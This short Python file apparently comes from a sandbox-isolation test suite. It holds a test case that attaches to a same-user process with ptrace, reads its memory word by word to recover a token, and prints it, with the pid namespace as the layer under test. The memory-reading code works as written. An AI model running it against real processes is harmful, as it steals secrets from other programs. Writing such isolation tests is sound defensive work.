"""Attaches to a process of the same user outside and reads its memory with ptrace.

layer: pid namespace
control: the same user without a sandbox reads the token
"""


def scene(s):
    s.args = s.victim()


def attack(a):
    pid = a["pid"]
    syscall("ptrace", 16, pid, 0, 0)
    os.waitpid(pid, 0x40000000)
    data = b""
    for offset in range(0, a["length"] + 8, 8):
        word = ctypes.c_long()
        syscall("ptrace", 2, pid, a["address"] + offset, ctypes.byref(word))
        data += struct.pack("<q", word.value)
    syscall("ptrace", 17, pid, 0, 0)
    print(data)
